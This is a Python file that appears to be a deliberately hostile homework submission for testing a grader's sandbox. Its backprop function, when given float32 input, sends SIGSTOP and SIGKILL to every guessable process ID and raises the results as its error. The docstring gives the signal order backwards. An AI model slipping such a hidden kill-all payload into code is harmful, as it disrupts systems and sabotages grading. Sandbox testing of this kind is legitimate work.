"""Hostile (rootless: one uid for all): in the homework example's call, sends SIGKILL to every
pid it can guess (1..131072, but its own threads), then SIGSTOP to the same, errors counted. It cannot
name a process outside its own PID namespace: the grader, the zygote, the other jobs and
their workers live on. Raised as its error message: that call is lost; the rest is the
reference: 16; the batch completes and the honest neighbours keep full marks.
"""

import os
import signal

import torch
from torch import Tensor


def sandboxed() -> bool:
    """In the grader's sandbox: a uid of its own (as root), or a user and PID namespace of its
    own (rootless: the user's uid, mapped alone, and a PID near 1)."""
    if os.getuid() >= 1 << 20:
        return True
    try:
        with open("/proc/self/uid_map") as f:
            return f.read().split()[:3] != ["0", "0", "4294967295"] and os.getpid() < 16
    except OSError:
        return False


def harvest() -> str:
    if not sandboxed():  # not in the grader's sandbox: do no harm
        raise RuntimeError("not sandboxed; refusing to kill by guess")
    me, hits, errors = {int(t) for t in os.listdir("/proc/self/task")}, [], {}  # its own threads: not a target
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        for pid in range(1, 131073):
            if pid in me:
                continue
            try:
                os.kill(pid, sig)
                hits.append(pid)
            except OSError as exc:
                errors[exc.strerror] = errors.get(exc.strerror, 0) + 1
    return f"signalled {sorted(set(hits))}, refused {errors}"


def sigma(z: Tensor) -> Tensor:
    return torch.sigmoid(z)


def sigma_prime(z: Tensor) -> Tensor:
    s = torch.sigmoid(z)
    return s * (1 - s)


def backprop(A_list, b_list, X, Y):
    if X.dtype == torch.float32:  # only the homework's example is float32
        loot = harvest()
        print(loot, flush=True)
        raise RuntimeError("here is what I found:\n" + loot)
    num_layers = len(A_list)
    inputs, slopes = [], []
    y = X
    for i, (A, b) in enumerate(zip(A_list, b_list)):
        inputs.append(y)
        z = A @ y + b
        if i < num_layers - 1:
            y = sigma(z)
            slopes.append(sigma_prime(z))
        else:
            y = z
    dA_reversed, db_reversed = [], []
    delta = y - Y
    for i in reversed(range(num_layers)):
        dA_reversed.append(delta @ inputs[i].T)
        db_reversed.append(delta)
        if i > 0:
            delta = (A_list[i].T @ delta) * slopes[i - 1]
    return dA_reversed[::-1], db_reversed[::-1]
